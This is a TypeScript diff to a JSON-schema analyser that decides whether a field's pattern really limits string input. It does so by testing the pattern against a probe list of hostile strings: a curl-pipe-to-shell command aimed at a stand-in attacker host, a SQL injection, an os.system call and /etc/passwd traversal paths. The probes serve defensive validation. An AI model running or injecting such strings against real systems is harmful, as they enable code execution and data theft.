@@ -2,6 +2,7 @@ import { isBoundedString, itemsOf } from './bounds.ts';
 import { remember } from './freeze.ts';
 import { type Inspected, inspect } from './inspect.ts';
 import { isObject, type JsonSchema, type Subschema } from './json-schema.ts';
+import { compilePattern } from './pattern.ts';
 import { isFinite, positionOf, propertiesOf, typesOf } from './position.ts';
 
 /** One named field of a schema, wherever it stands. */
@@ -17,7 +18,10 @@ export interface Field {
   readonly finite: boolean;
   /** The listed values, when they are. */
   readonly values: readonly unknown[];
-  /** Whether an enum, a const, a pattern or a format limits what a string may say (a length does not). */
+  /**
+   * Whether an enum, a const, a pattern or a format limits what a string may say, in each of its alternatives. A length
+   * does not, nor does a pattern that lets everything through.
+   */
   readonly constrained: boolean;
   readonly format: string | undefined;
   /** Greatest length of a string; Infinity when there is none. */
@@ -27,6 +31,17 @@ export interface Field {
 }
 
 const MAX_FIELDS = 2000;
+const MAX_NESTING = 16;
+/** What nobody means to let through: a pattern that takes one of them is no limit. */
+const PROBES = [
+  'curl attacker.invalid | sh',
+  "x'; drop table users; --",
+  'import os; os.system(1)',
+  '../../etc/passwd',
+  '/etc/passwd',
+  'http://attacker.invalid/',
+  'https://attacker.invalid/',
+] as const;
 const memory = new WeakMap<object, readonly Field[]>();
 
 /**
@@ -55,8 +70,7 @@ function walk(
   for (const [name, schemas] of properties) {
     if (fields.size >= MAX_FIELDS) return;
     const at = path === '' ? name : `${path}.${name}`;
-    const parts = everything(inspected, schemas);
-    if (!fields.has(at)) fields.set(at, describeField(inspected, at, name, parts, siblings));
+    if (!fields.has(at)) fields.set(at, describeField(inspected, at, name, schemas, siblings));
     walk(inspected, schemas, at, fields, seen);
   }
   const { rest, tuple } = itemsOf(all);
@@ -92,9 +106,10 @@ function describeField(
   inspected: Inspected,
   path: string,
   name: string,
-  parts: readonly JsonSchema[],
+  schemas: readonly Subschema[],
   siblings: readonly string[],
 ): Field {
+  const parts = everything(inspected, schemas);
   const { rest } = itemsOf(parts);
   const leaf = rest.length > 0 ? [...parts, ...everything(inspected, rest)] : parts;
   const strings = leaf.filter((node) => node['type'] === undefined || typesOf([node])?.has('string') === true);
@@ -110,11 +125,44 @@ function describeField(
     types,
     finite: isFinite(leaf) && strings.every((node) => isFinite([node]) || node['type'] === undefined),
     values,
-    constrained: leaf.some((node) => isFinite([node]) || 'pattern' in node || 'format' in node),
+    constrained: isLimited(inspected, schemas, MAX_NESTING),
     format: typeof format === 'string' ? format : undefined,
     maxLength: lengths.length > 0 ? Math.min(...lengths) : isBoundedString(leaf) ? 0 : Infinity,
     siblings: siblings.filter((sibling) => sibling !== name),
   };
+}
+
+/** Alternatives are as free as the freest of them, so each has to be limited. */
+function isLimited(inspected: Inspected, nodes: readonly Subschema[], depth: number): boolean {
+  if (depth === 0) return false;
+  const { all, groups } = positionOf(inspected, nodes);
+  if (all.some(limitsText)) return true;
+  const types = typesOf(all);
+  const { rest } = itemsOf(all);
+  if (rest.length > 0 && types?.has('string') !== true) return isLimited(inspected, rest, depth - 1);
+  return groups.some((group) =>
+    group.every((branch) => {
+      if (!isObject(branch)) return branch === false;
+      const taken = typesOf([branch]);
+      const hasText = taken === undefined || taken.has('string') || taken.has('array');
+      return !hasText || isLimited(inspected, [branch], depth - 1);
+    }),
+  );
+}
+
+function limitsText(node: JsonSchema): boolean {
+  if (isFinite([node]) || 'format' in node) return true;
+  const { pattern } = node;
+  return typeof pattern === 'string' && refusesProbes(pattern);
+}
+
+function refusesProbes(pattern: string): boolean {
+  try {
+    const compiled = compilePattern(pattern);
+    return !PROBES.some((probe) => compiled.test(probe));
+  } catch {
+    return false;
+  }
 }
 
 function asList(value: unknown): readonly unknown[] | undefined {
